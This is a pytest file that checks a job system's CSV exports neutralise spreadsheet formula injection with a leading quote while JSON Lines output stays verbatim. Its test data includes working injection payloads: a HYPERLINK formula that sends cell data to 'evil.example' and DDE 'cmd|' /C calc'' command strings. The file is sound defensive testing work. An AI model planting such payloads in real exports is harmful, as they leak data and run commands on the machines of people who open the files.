"""CSV formula injection: a cell that starts with =, +, -, @, a tab or a carriage return is
run as a formula when the file is opened in a spreadsheet. Every CSV jobsys writes (the REST
export, the page's download, `jobsys batch export --format csv`) neutralises such cells the
OWASP way, a leading `'`, in the inputs, the outputs and the errors alike; JSON Lines keeps
every value verbatim."""

from __future__ import annotations

import csv
import io
import json
import os
import pathlib
import re
import subprocess
import uuid
import httpx
import pytest

from jobsys.batch.facade import BatchJobs
from jobsys.batch.models import ItemResult
from jobsys.csv_safe import FORMULA_TRIGGERS, DictWriter, safe_cell, writer
from jobsys.system import JobSystem
from nicegui_app.api import create_api_app
from nicegui_app.batch_export import ExportFormat, export_file
from tests.support.paths import ROOT
from tests.support.processes import JOBSYS

TOKEN = "csv-test-token-0123456789"
# One hostile value per trigger, in an input field and in the output; the errors of the
# failed items are hostile too. Harmless values stay as they are.
HOSTILE = [
    "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign: some spreadsheet locales take it for "="
]
HARMLESS = ["plain text", "'already quoted", "a = b", "리뷰 -1", ""]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_with_a_trigger_gets_a_leading_quote(value: str) -> None:
    assert value[0] in FORMULA_TRIGGERS
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [*HARMLESS, 0, 7, -5, 1.5, -0.25, None, True])
def test_other_cells_and_numbers_are_left_alone(value: object) -> None:
    # A number is not text a spreadsheet can run: -5 stays a number.
    assert safe_cell(value) == value


def test_the_writers_neutralise_every_cell_and_the_header() -> None:
    buffer = io.StringIO()
    rows = writer(buffer)
    rows.writerow(["=a", "b", -1])
    rows.writerows([["@c", "+d"]])
    dict_rows = DictWriter(buffer, fieldnames=["=h", "k"])
    dict_rows.writeheader()
    dict_rows.writerow({"=h": "-x", "k": "ok"})
    dict_rows.writerows([{"=h": "\tq", "k": 3}])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=a", "b", "-1"], ["'@c", "'+d"], ["'=h", "k"], ["'-x", "ok"], ["'\tq", "3"]]


async def _finished_hostile_job(batch: BatchJobs) -> uuid.UUID:
    """A job whose inputs, outputs and errors start with every trigger: the first half of the
    items completed with a hostile output, the rest failed with a hostile error."""
    job = await batch.create_job(template="Summarise: {text}",
                                 items=[{"text": value, "note": value} for value in HOSTILE])
    claimed = await batch.claim_job("csv-test")
    assert claimed is not None and claimed.id == job.id
    items = await batch.claim_items(claimed.id, claimed.lease_token, len(HOSTILE))
    half = len(HOSTILE) // 2
    await batch.report(claimed.id, claimed.lease_token, [
        ItemResult(idx=item.idx, status="completed", output=HOSTILE[item.idx], provider="offline")
        if item.idx < half else
        ItemResult(idx=item.idx, status="failed", error=HOSTILE[item.idx], provider="offline")
        for item in items])
    await batch.finish_job(claimed.id, claimed.lease_token)
    return job.id


def _assert_neutralised(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        value = HOSTILE[int(row["idx"])]
        assert row["input.text"] == row["input.note"] == "'" + value
        assert (row["output"] or row["error"]) == "'" + value
    cells = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]


def _assert_verbatim(text: str) -> None:
    rows = [json.loads(line) for line in text.split("\n") if line]
    assert len(rows) == len(HOSTILE)
    for row in rows:
        value = HOSTILE[row["idx"]]
        assert row["input"] == {"text": value, "note": value}
        assert (row["output"] or row["error"]) == value


async def test_every_csv_export_neutralises_formulas_and_jsonl_stays_verbatim(
        jobs: JobSystem, batch: BatchJobs, db_url: str, tmp_path: pathlib.Path) -> None:
    job_id = await _finished_hostile_job(batch)

    # The REST export (the page's download buttons hand out export_file's bytes as well).
    transport = httpx.ASGITransport(create_api_app(jobs, TOKEN))
    async with httpx.AsyncClient(transport=transport, base_url="http://api.test",
                                 headers={"Authorization": f"Bearer {TOKEN}"}) as api:
        for fmt, check in (("csv", _assert_neutralised), ("jsonl", _assert_verbatim)):
            response = await api.get(f"/api/background-jobs/{job_id}/export", params={"format": fmt})
            assert response.status_code == 200, response.text
            check(response.content.decode("utf-8"))
    page_file = await export_file(batch, job_id, ExportFormat.CSV)
    _assert_neutralised(page_file.content.decode("utf-8"))

    # The command: to stdout and to a file.
    env = {**os.environ, "GEMINI_API_KEY": ""}
    for fmt, check in (("csv", _assert_neutralised), ("jsonl", _assert_verbatim)):
        base = [*JOBSYS, "batch", "export", str(job_id), "--format", fmt, "--database-url", db_url]
        # Bytes, not text: universal newlines would turn a cell's "\r" into "\n".
        printed = subprocess.run(base, capture_output=True, env=env, timeout=60, check=True)
        check(printed.stdout.decode("utf-8"))
        out = tmp_path / f"export.{fmt}"
        subprocess.run([*base, "-o", str(out)], capture_output=True, env=env, timeout=60, check=True)
        check(out.read_bytes().decode("utf-8"))


def test_no_module_writes_csv_around_the_helper() -> None:
    """Every CSV writer in the product is jobsys.csv_safe's, so a new export cannot forget it."""
    direct = re.compile(r"\bcsv\.(writer|DictWriter)\b|from\s+csv\s+import\s+.*\b(writer|DictWriter)\b")
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for folder in ("jobsys", "jobsys_cli", "nicegui_app", "worker", "bench")
        for path in sorted((ROOT / folder).rglob("*.py")) if path != ROOT / "jobsys" / "csv_safe.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if direct.search(line)]
    assert offenders == []
